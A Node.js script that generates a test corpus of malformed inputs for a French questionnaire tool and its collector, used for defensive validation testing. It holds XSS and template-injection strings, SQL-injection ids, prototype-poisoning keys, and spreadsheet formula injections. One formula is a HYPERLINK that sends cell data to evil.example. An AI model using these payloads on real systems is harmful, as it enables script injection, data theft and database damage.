// Writes test/corpus/: bad input for the elements and the collector, each file with a line in
// test/corpus/index.json saying what it is and what must come of it. The files are committed;
// run this again (`node scripts/make-corpus.mjs`) after changing a case here.
//
// A submission's campaign is written `__CAMPAIGN__`: each test puts in the id of its own campaign.
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const root = new URL('../test/corpus/', import.meta.url).pathname;
rmSync(root, { recursive: true, force: true });
for (const dir of ['instruments', 'submissions', 'roles', 'progress']) mkdirSync(join(root, dir), { recursive: true });

const clone = (x) => structuredClone(x);
const index = { payloads: [], instruments: [], submissions: [], roles: [], progress: [] };

/** Writes one case: `data` as JSON, or `raw` as it is (text or bytes). */
function add(kind, name, what, expect, { data, raw }) {
  const n = String(index[kind].length + 1).padStart(2, '0');
  const file = `${kind}/${n}-${name}.json`;
  writeFileSync(join(root, file), raw ?? `${JSON.stringify(data, null, 1)}\n`);
  index[kind].push({ file, case: what, expect });
}

// ---- script-injection payloads, put in every text field by the tests ----
index.payloads = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"></svg>',
  '"><script>window.pwned = 1</script>',
  "'><img src=x onerror=alert(1)>",
  'javascript:window.pwned = 1',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<a href="javascript:alert(1)">clic</a>',
  '${alert(1)}',
  "{{constructor.constructor('window.pwned = 1')()}}",
  '</textarea></title><script>window.pwned = 1</script>',
  '<details open ontoggle="window.pwned = 1">x</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<input autofocus onfocus="window.pwned = 1">',
  '<object data="javascript:window.pwned = 1"></object>',
  "=cmd|' /C calc'!A0",
  '+HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

// ---- instruments ----
const instrument = {
  id: 'corpus',
  version: '1',
  title: { fr: 'Questionnaire du corpus', en: 'Corpus questionnaire' },
  scale: {
    choices: [
      { value: 1, label: 'Pas du tout' },
      { value: 2, label: 'Un peu' },
      { value: 3, label: 'Beaucoup' },
    ],
    notApplicable: { label: 'Ne s’applique pas' },
  },
  sections: [{ id: 's1', title: 'Section 1' }],
  dimensions: [{ id: 'd1', label: 'Dimension 1' }],
  items: [
    { id: 'q1', section: 's1', text: 'Énoncé 1', dimensions: ['d1'] },
    { id: 'q2', section: 's1', text: 'Énoncé 2' },
  ],
  bands: [
    { id: 'bas', min: 0, label: 'À travailler', recommend: true },
    { id: 'haut', min: 70, label: 'Force' },
  ],
  profile: [{ id: 'nom', type: 'text', label: 'Nom' }],
};
const inst = (name, what, path, change) => {
  const data = clone(instrument);
  const returned = change(data);
  const out = returned === undefined ? data : returned;
  add('instruments', name, what, { code: 'instrument-invalid', path }, { data: out });
};
const instRaw = (name, what, code, raw) => add('instruments', name, what, { code }, { raw });
const ROOT = '(racine)';

inst('null', 'null instead of an object', ROOT, () => null);
inst('array', 'an array', ROOT, () => []);
inst('string', 'a string', ROOT, () => 'questionnaire');
inst('number', 'a number', ROOT, () => 42);
inst('empty-object', 'an empty object', 'id', () => ({}));
inst('no-id', 'no id', 'id', (d) => void delete d.id);
inst('id-space', 'an id with a space', 'id', (d) => void (d.id = 'mon questionnaire'));
inst('id-too-long', 'an id of 101 characters', 'id', (d) => void (d.id = 'a'.repeat(101)));
inst('id-number', 'a number as id', 'id', (d) => void (d.id = 7));
inst('id-sql', 'an id that is SQL', 'id', (d) => void (d.id = "x'; DROP TABLE campaign; --"));
inst('no-version', 'no version', 'version', (d) => void delete d.version);
inst('version-empty', 'an empty version', 'version', (d) => void (d.version = ''));
inst('version-too-long', 'a version of 41 characters', 'version', (d) => void (d.version = '1'.repeat(41)));
inst('title-empty', 'an empty title', 'title', (d) => void (d.title = ''));
inst('title-blank', 'a title of spaces only', 'title', (d) => void (d.title = '   '));
inst('title-no-language', 'a title object with neither fr nor en', 'title', (d) => void (d.title = {}));
inst('title-number-fr', 'a title whose fr is a number', 'title', (d) => void (d.title = { fr: 3 }));
inst('no-scale', 'no scale', 'scale', (d) => void delete d.scale);
inst('scale-one-choice', 'a scale of one choice', 'scale.choices', (d) => void (d.scale.choices = [d.scale.choices[0]]));
inst('scale-twelve-choices', 'a scale of twelve choices', 'scale.choices', (d) =>
  void (d.scale.choices = Array.from({ length: 12 }, (_, i) => ({ value: i, label: `c${i}` }))));
inst('scale-descending', 'choices from the highest value down', 'scale.choices[1].value', (d) => void d.scale.choices.reverse());
inst('scale-same-value', 'two choices with the same value', 'scale.choices[1].value', (d) => void (d.scale.choices[1].value = 1));
inst('choice-value-string', 'a choice value given as text', 'scale.choices[0].value', (d) => void (d.scale.choices[0].value = '1'));
inst('choice-no-label', 'a choice without label', 'scale.choices[0].label', (d) => void delete d.scale.choices[0].label);
inst('na-no-label', '« Ne s’applique pas » without its label', 'scale.notApplicable.label', (d) => void (d.scale.notApplicable = {}));
inst('sections-empty', 'no section', 'sections', (d) => void (d.sections = []));
inst('sections-object', 'sections as an object', 'sections', (d) => void (d.sections = { s1: 'Section 1' }));
inst('section-duplicate', 'two sections with one id', 'sections[1].id', (d) => void d.sections.push({ id: 's1', title: 'Encore' }));
inst('items-empty', 'no item', 'items', (d) => void (d.items = []));
inst('item-null', 'an item that is null', 'items[1]', (d) => void (d.items[1] = null));
inst('item-unknown-section', 'an item in a section that does not exist', 'items[1].section', (d) => void (d.items[1].section = 'ailleurs'));
inst('item-duplicate', 'two items with one id', 'items[1].id', (d) => void (d.items[1].id = 'q1'));
inst('item-no-text', 'an item without text', 'items[0].text', (d) => void delete d.items[0].text);
inst('item-unknown-dimension', 'an item in a dimension that does not exist', 'items[0].dimensions[0]', (d) => void (d.items[0].dimensions = ['nulle-part']));
inst('item-dimensions-string', 'dimensions as a string', 'items[0].dimensions', (d) => void (d.items[0].dimensions = 'd1'));
inst('item-source-empty', 'a source with an empty passage', 'items[0].source.passage', (d) => void (d.items[0].source = { document: 'Guide', passage: '' }));
inst('dimension-duplicate', 'two dimensions with one id', 'dimensions[1].id', (d) => void d.dimensions.push({ id: 'd1', label: 'Encore' }));
inst('bands-empty', 'no band', 'bands', (d) => void (d.bands = []));
inst('band-no-zero', 'no band starting at 0', 'bands', (d) => void (d.bands[0].min = 10));
inst('band-over-100', 'a band starting at 101', 'bands[1].min', (d) => void (d.bands[1].min = 101));
inst('band-negative', 'a band starting below 0', 'bands[1].min', (d) => void (d.bands[1].min = -1));
inst('band-same-min', 'two bands starting at the same value', 'bands', (d) => void (d.bands[1].min = 0));
inst('band-recommend-text', 'recommend given as text', 'bands[0].recommend', (d) => void (d.bands[0].recommend = 'oui'));
inst('profile-unknown-type', 'a profile field of an unknown type', 'profile[0].type', (d) => void (d.profile[0].type = 'date'));
inst('profile-choice-without-choices', 'a choice field without its choices', 'profile[0].choices', (d) => void (d.profile[0].type = 'choice'));
inst('profile-choices-empty', 'a choice field with no choice', 'profile[0].choices', (d) => void Object.assign(d.profile[0], { type: 'choice', choices: [] }));
inst('profile-duplicate', 'two profile fields with one id', 'profile[1].id', (d) => void d.profile.push({ id: 'nom', type: 'text', label: 'Encore' }));
inst('format-other', 'the format of another document', 'format', (d) => void (d.format = 'partenariat-result'));
inst('schema-number', '$schema as a number', '$schema', (d) => void (d.$schema = 1));
add('instruments', 'deeply-nested-text', 'a description nested 5,000 arrays deep', { code: 'instrument-invalid', path: 'description' },
  { raw: JSON.stringify({ ...instrument, description: 'FOND' }).replace('"FOND"', `${'['.repeat(5000)}"fond"${']'.repeat(5000)}`) });
{
  // Oversized: 2,000 items of 150 characters; the last one in a section that does not exist.
  const d = clone(instrument);
  d.items = Array.from({ length: 2000 }, (_, i) => ({ id: `q${i}`, section: 's1', text: `Énoncé ${i} ${'x'.repeat(140)}` }));
  d.items[1999].section = 'ailleurs';
  add('instruments', 'oversized', '2,000 items (350 KB), the last one in a section that does not exist', { code: 'instrument-invalid', path: 'items[1999].section' }, { raw: JSON.stringify(d) });
}
{
  const text = JSON.stringify(instrument);
  instRaw('not-json', 'text that is not JSON', 'instrument-json', 'Ceci n’est pas un questionnaire.\n');
  instRaw('truncated', 'JSON cut off in the middle', 'instrument-json', text.slice(0, text.length / 2));
  instRaw('trailing-comma', 'JSON with a trailing comma', 'instrument-json', text.replace(/}$/, ',}'));
  instRaw('infinity', 'a choice value of 1e999 (Infinity once parsed)', 'instrument-invalid', text.replace('"value":3', '"value":1e999'));
  instRaw('deeply-nested', '100,000 nested arrays', 'instrument-invalid', `${'['.repeat(100000)}${']'.repeat(100000)}`);
  add('instruments', 'duplicate-key-last-wrong', 'the key "id" twice; the second one (the one JSON.parse keeps) is not an id', { code: 'instrument-invalid', path: 'id' },
    { raw: text.replace('"id":"corpus"', '"id":"corpus","id":"pas un identifiant"') });
  add('instruments', 'duplicate-key-items', 'the key "items" twice; the second one is empty', { code: 'instrument-invalid', path: 'items' },
    { raw: text.replace(/}$/, ',"items":[]}') });
  add('instruments', 'proto-key', 'a "__proto__" key holding the id, and no id of its own', { code: 'instrument-invalid', path: 'id' },
    { raw: text.replace('"id":"corpus",', '"__proto__":{"id":"corpus","polluted":true},') });
  const bad = Buffer.from(text.replace('Énoncé 1', 'ENONCE_BAD'), 'utf8');
  const at = bad.indexOf('ENONCE_BAD');
  instRaw('invalid-utf8', 'invalid UTF-8 bytes (C3 28) in an item’s text', 'instrument-json',
    Buffer.concat([bad.subarray(0, at), Buffer.from([0xc3, 0x28]), bad.subarray(at + 'ENONCE_BAD'.length)]));
  instRaw('latin1', 'the file saved in Latin-1 (é as one byte E9)', 'instrument-json', Buffer.from(text, 'latin1'));
  instRaw('utf16', 'the file saved in UTF-16 with its byte-order mark', 'instrument-json', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
  instRaw('lone-surrogate-bytes', 'a surrogate encoded as UTF-8 bytes (ED A0 80), which UTF-8 forbids', 'instrument-json',
    Buffer.concat([Buffer.from(text.slice(0, 20), 'utf8'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(text.slice(20), 'utf8')]));
}

// ---- submissions (to the collector, on the default questionnaire) ----
const { defaultInstrument } = await import('../collect/dist/index.js');
const score = { mean: 3, percent: 66.7, answered: 1, notApplicable: 0, total: 1, band: 'force' };
const envelope = {
  format: 'partenariat-submission',
  version: 1,
  campaign: '__CAMPAIGN__',
  consent: { time: '2026-11-30T14:16:00.000Z', recipient: 'la Fédération régionale', wording: 'consent-v1' },
  result: {
    format: 'partenariat-result',
    version: 1,
    id: 'corpus-result',
    instrument: { id: defaultInstrument.id, version: defaultInstrument.version },
    locale: 'fr',
    startedAt: '2026-11-30T14:00:00.000Z',
    updatedAt: '2026-11-30T14:15:00.000Z',
    completedAt: '2026-11-30T14:15:00.000Z',
    profile: { organisation: 'Association des locataires' },
    answers: Object.fromEntries(defaultInstrument.items.map((item) => [item.id, 3])),
    scores: {
      overall: score,
      sections: defaultInstrument.sections.map((s) => ({ id: s.id, ...score })),
      dimensions: (defaultInstrument.dimensions ?? []).map((d) => ({ id: d.id, ...score })),
    },
    recommendations: [],
  },
};
writeFileSync(join(root, 'submission-base.json'), `${JSON.stringify(envelope, null, 1)}\n`);
const sub = (name, what, expect, change) => {
  const data = clone(envelope);
  const returned = change(data);
  const out = returned === undefined ? data : returned;
  add('submissions', name, what, expect, { data: out });
};
const invalid = (path) => ({ status: 400, type: 'invalid-submission', path });
const subRaw = (name, what, expect, raw) => add('submissions', name, what, expect, { raw });

sub('null', 'null', invalid(''), () => null);
sub('array', 'an array', invalid(''), () => []);
sub('string', 'a string', invalid(''), () => 'envoi');
sub('empty-object', 'an empty object', invalid('format'), () => ({}));
sub('format-other', 'the format of a result', invalid('format'), (d) => void (d.format = 'partenariat-result'));
sub('version-2', 'version 2', invalid('version'), (d) => void (d.version = 2));
sub('no-campaign', 'no campaign', invalid('campaign'), (d) => void delete d.campaign);
sub('campaign-sql', 'a campaign id that is SQL', invalid('campaign'), (d) => void (d.campaign = "x' OR '1'='1"));
sub('no-consent', 'no consent', invalid('consent'), (d) => void delete d.consent);
sub('consent-time-text', 'a consent time that is not a date', invalid('consent.time'), (d) => void (d.consent.time = 'hier'));
sub('consent-time-no-offset', 'a consent time without its offset', invalid('consent.time'), (d) => void (d.consent.time = '2026-11-30 14:16'));
sub('recipient-blank', 'a recipient of spaces only', invalid('consent.recipient'), (d) => void (d.consent.recipient = '   '));
sub('recipient-too-long', 'a recipient of 301 characters', invalid('consent.recipient'), (d) => void (d.consent.recipient = 'r'.repeat(301)));
sub('wording-space', 'a consent wording id with spaces', invalid('consent.wording'), (d) => void (d.consent.wording = 'mon accord'));
sub('no-result', 'no result', invalid('result'), (d) => void delete d.result);
sub('result-format', 'a result of another format', invalid('result.format'), (d) => void (d.result.format = 'partenariat-roles'));
sub('result-id-empty', 'an empty result id', invalid('result.id'), (d) => void (d.result.id = ''));
sub('result-id-too-long', 'a result id of 101 characters', invalid('result.id'), (d) => void (d.result.id = 'r'.repeat(101)));
sub('locale-de', 'a locale other than fr or en', invalid('result.locale'), (d) => void (d.result.locale = 'de'));
sub('started-not-date', 'startedAt that is not a date', invalid('result.startedAt'), (d) => void (d.result.startedAt = '30/11/2026'));
sub('completed-missing', 'completedAt left out (null is expected when not completed)', invalid('result.completedAt'), (d) => void delete d.result.completedAt);
sub('profile-number', 'a profile value that is a number', invalid('result.profile.organisation'), (d) => void (d.result.profile.organisation = 12));
sub('profile-too-long', 'a profile value of 501 characters', invalid('result.profile.organisation'), (d) => void (d.result.profile.organisation = 'p'.repeat(501)));
sub('profile-key-sql', 'a profile key that is SQL', invalid("result.profile.nom'; DROP TABLE submission; --"), (d) => void (d.result.profile["nom'; DROP TABLE submission; --"] = 'x'));
sub('answers-key-space', 'an answer key with a space', invalid('result.answers.une question'), (d) => void (d.result.answers['une question'] = 2));
sub('answer-text', 'an answer given as text', invalid(`result.answers.${defaultInstrument.items[0].id}`), (d) => void (d.result.answers[defaultInstrument.items[0].id] = '3'));
sub('answer-boolean', 'an answer given as true', invalid(`result.answers.${defaultInstrument.items[0].id}`), (d) => void (d.result.answers[defaultInstrument.items[0].id] = true));
sub('no-scores', 'no scores', invalid('result.scores'), (d) => void delete d.result.scores);
sub('percent-101', 'an overall percent of 101', invalid('result.scores.overall.percent'), (d) => void (d.result.scores.overall.percent = 101));
sub('answered-negative', 'answered: -1', invalid('result.scores.overall.answered'), (d) => void (d.result.scores.overall.answered = -1));
sub('answered-fraction', 'answered: 1.5', invalid('result.scores.overall.answered'), (d) => void (d.result.scores.overall.answered = 1.5));
sub('recommendations-object', 'recommendations as an object', invalid('result.recommendations'), (d) => void (d.result.recommendations = {}));
sub('instrument-mismatch', 'a result of another version of the questionnaire', { status: 400, type: 'invalid-submission', reason: 'instrument-mismatch' },
  (d) => void (d.result.instrument.version = '0.0.0-autre'));
sub('campaign-mismatch', 'an envelope addressed to another campaign', { status: 400, type: 'invalid-submission', reason: 'campaign-mismatch' },
  (d) => void (d.campaign = 'une-autre-campagne'));
{
  const text = JSON.stringify(envelope);
  subRaw('not-json', 'text that is not JSON', { status: 400, type: 'invalid-json' }, 'format=partenariat-submission');
  subRaw('truncated', 'JSON cut off in the middle', { status: 400, type: 'invalid-json' }, text.slice(0, 200));
  subRaw('empty', 'an empty body', { status: 400, type: 'invalid-json' }, '');
  subRaw('duplicate-key', 'the key "format" twice; the second one (the one kept) is wrong', invalid('format'),
    text.replace('"format":"partenariat-submission"', '"format":"partenariat-submission","format":"autre"'));
  subRaw('proto-key', 'a "__proto__" key (prototype poisoning)', { status: 400, type: 'invalid-json' },
    text.replace('"version":1,', '"version":1,"__proto__":{"isAdmin":true},'));
  subRaw('constructor-prototype', 'a "constructor": {"prototype"} key (prototype poisoning)', { status: 400, type: 'invalid-json' },
    text.replace('"version":1,', '"version":1,"constructor":{"prototype":{"isAdmin":true}},'));
  subRaw('deeply-nested', 'a profile value nested 20,000 arrays deep', invalid('result.profile.organisation'),
    text.replace('"Association des locataires"', `${'['.repeat(20000)}${']'.repeat(20000)}`));
  subRaw('oversized', 'a body over the 64 KB limit', { status: 413, type: 'too-large' },
    text.replace('"Association des locataires"', JSON.stringify('a'.repeat(70000))));
  const bytes = Buffer.from(text, 'utf8');
  const at = bytes.indexOf('Association');
  subRaw('invalid-utf8', 'invalid UTF-8 bytes (C3 28) in a profile value', { status: 400, type: 'invalid-encoding' },
    Buffer.concat([bytes.subarray(0, at), Buffer.from([0xc3, 0x28]), bytes.subarray(at)]));
  subRaw('latin1', 'the body in Latin-1 (é as one byte E9)', { status: 400, type: 'invalid-encoding' }, Buffer.from(text, 'latin1'));
  subRaw('overlong-utf8', 'an overlong UTF-8 form of "<" (C0 BC)', { status: 400, type: 'invalid-encoding' },
    Buffer.concat([bytes.subarray(0, at), Buffer.from([0xc0, 0xbc]), bytes.subarray(at)]));
}

// ---- role tables ----
const table = {
  format: 'partenariat-roles',
  version: 1,
  title: 'Tableau du corpus',
  partners: [{ id: 'p1', name: 'Alpha' }, { id: 'p2', name: 'Beta' }],
  responsibilities: [{ id: 'r1', label: 'Budget' }],
  vocabulary: [{ id: 'd', label: 'Décide', meanings: ['decides'] }, { id: 'f', label: 'Réalise', meanings: ['does'] }],
  assignments: { r1: { p1: 'd', p2: 'f' } },
};
writeFileSync(join(root, 'roles-base.json'), `${JSON.stringify(table, null, 1)}\n`);
const role = (name, what, path, change) => {
  const data = clone(table);
  const returned = change(data);
  const out = returned === undefined ? data : returned;
  add('roles', name, what, { code: 'roles-invalid', path }, { data: out });
};
role('null', 'null', ROOT, () => null);
role('array', 'an array', ROOT, () => []);
role('empty-object', 'an empty object', 'format', () => ({}));
role('format-other', 'the format of an instrument', 'format', (d) => void (d.format = 'partenariat-instrument'));
role('version-2', 'version 2', 'version', (d) => void (d.version = 2));
role('title-number', 'a title that is a number', 'title', (d) => void (d.title = 5));
role('title-too-long', 'a title of 201 characters', 'title', (d) => void (d.title = 't'.repeat(201)));
role('date-impossible', 'the date 2026-13-45', 'date', (d) => void (d.date = '2026-13-45'));
role('partners-object', 'partners as an object', 'partners', (d) => void (d.partners = { p1: 'Alpha' }));
role('partners-21', '21 partners', 'partners', (d) => void (d.partners = Array.from({ length: 21 }, (_, i) => ({ id: `p${i}`, name: `P${i}` }))));
role('partner-name-blank', 'a partner name of spaces only', 'partners[0].name', (d) => void (d.partners[0].name = '  '));
role('partner-name-too-long', 'a partner name of 121 characters', 'partners[0].name', (d) => void (d.partners[0].name = 'n'.repeat(121)));
role('partner-id-sql', 'a partner id that is SQL', 'partners[0].id', (d) => void (d.partners[0].id = "p1' --"));
role('partner-duplicate', 'two partners with one id', 'partners[1].id', (d) => void (d.partners[1].id = 'p1'));
role('responsibilities-101', '101 responsibilities', 'responsibilities', (d) => void (d.responsibilities = Array.from({ length: 101 }, (_, i) => ({ id: `r${i}`, label: `R${i}` }))));
role('vocabulary-empty', 'no role', 'vocabulary', (d) => void (d.vocabulary = []));
role('vocabulary-11', '11 roles', 'vocabulary', (d) => void (d.vocabulary = Array.from({ length: 11 }, (_, i) => ({ id: `v${i}`, label: `V${i}` }))));
role('role-label-too-long', 'a role label of 81 characters', 'vocabulary[0].label', (d) => void (d.vocabulary[0].label = 'l'.repeat(81)));
role('role-meaning-unknown', 'an unknown meaning', 'vocabulary[0].meanings[0]', (d) => void (d.vocabulary[0].meanings = ['boss']));
role('assignment-unknown-responsibility', 'a row for a responsibility that does not exist', 'assignments.r9', (d) => void (d.assignments.r9 = { p1: 'd' }));
role('assignment-unknown-partner', 'a cell for a partner that does not exist', 'assignments.r1.p9', (d) => void (d.assignments.r1.p9 = 'd'));
role('assignment-unknown-role', 'a cell holding a role that does not exist', 'assignments.r1.p1', (d) => void (d.assignments.r1.p1 = 'x'));
role('schema-too-long', 'a $schema of 501 characters', '$schema', (d) => void (d.$schema = 's'.repeat(501)));
{
  const text = JSON.stringify(table);
  add('roles', 'proto-row', 'a "__proto__" row in assignments', { code: 'roles-invalid', path: 'assignments.__proto__' },
    { raw: text.replace('"assignments":{', '"assignments":{"__proto__":{"p1":"d"},') });
  add('roles', 'duplicate-key', 'the key "format" twice; the second one is wrong', { code: 'roles-invalid', path: 'format' },
    { raw: text.replace('"format":"partenariat-roles"', '"format":"partenariat-roles","format":"autre"') });
  add('roles', 'deeply-nested', 'a title nested 20,000 arrays deep', { code: 'roles-invalid', path: 'title' },
    { raw: text.replace('"Tableau du corpus"', `${'['.repeat(20000)}${']'.repeat(20000)}`) });
}

// ---- saved progress of the test suite's mini questionnaire (id "mini", version "1") ----
const progress = {
  format: 'partenariat-progress',
  version: 1,
  instrument: { id: 'mini', version: '1' },
  id: 'corpus-progress',
  startedAt: '2026-11-30T14:00:00.000Z',
  updatedAt: '2026-11-30T14:05:00.000Z',
  completedAt: null,
  answers: { a1: 2 },
  profile: {},
};
writeFileSync(join(root, 'progress-base.json'), `${JSON.stringify(progress, null, 1)}\n`);
const prog = (name, what, reason, change) => {
  const data = clone(progress);
  const returned = change(data);
  const out = returned === undefined ? data : returned;
  add('progress', name, what, { reason }, { data: out });
};
prog('null', 'null', 'corrupt', () => null);
prog('array', 'an array', 'corrupt', () => []);
prog('empty-object', 'an empty object', 'corrupt', () => ({}));
prog('format-other', 'the format of a result', 'corrupt', (d) => void (d.format = 'partenariat-result'));
prog('version-2', 'version 2', 'corrupt', (d) => void (d.version = 2));
prog('no-id', 'no id', 'corrupt', (d) => void delete d.id);
prog('started-not-date', 'startedAt that is not a date', 'corrupt', (d) => void (d.startedAt = 'hier'));
prog('answers-array', 'answers as an array', 'corrupt', (d) => void (d.answers = [2]));
prog('answer-text', 'an answer given as text', 'corrupt', (d) => void (d.answers.a1 = '2'));
prog('answer-key-space', 'an answer key with a space', 'corrupt', (d) => void (d.answers['a 1'] = 2));
prog('profile-too-long', 'a profile value of 501 characters', 'corrupt', (d) => void (d.profile.nom = 'p'.repeat(501)));
prog('times-wrong', 'change times that are not dates', 'corrupt', (d) => void (d.times = { answers: { a1: 'hier' }, profile: {} }));
prog('outbox-wrong', 'an outbox that is a string', 'corrupt', (d) => void (d.outbox = 'envoyé'));
prog('other-version', 'answers of version 2 of the questionnaire', 'other-version', (d) => void (d.instrument.version = '2'));
prog('answer-off-scale', 'an answer (7) off the scale', 'other-version', (d) => void (d.answers.a1 = 7));
prog('unknown-item', 'an answer to an item the questionnaire does not have', 'other-version', (d) => void (d.answers.zz = 2));
{
  const text = JSON.stringify(progress);
  add('progress', 'not-json', 'text that is not JSON', { reason: 'corrupt' }, { raw: 'réponses illisibles' });
  add('progress', 'truncated', 'JSON cut off in the middle', { reason: 'corrupt' }, { raw: text.slice(0, 60) });
  add('progress', 'deeply-nested', '100,000 nested arrays', { reason: 'corrupt' }, { raw: `${'['.repeat(100000)}${']'.repeat(100000)}` });
  add('progress', 'duplicate-key', 'the key "answers" twice; the second one holds text', { reason: 'corrupt' },
    { raw: text.replace(/}$/, ',"answers":"aucune"}') });
}

writeFileSync(join(root, 'index.json'), `${JSON.stringify(index, null, 1)}\n`);
console.log(Object.entries(index).map(([k, v]) => `${k}: ${v.length}`).join(', '));
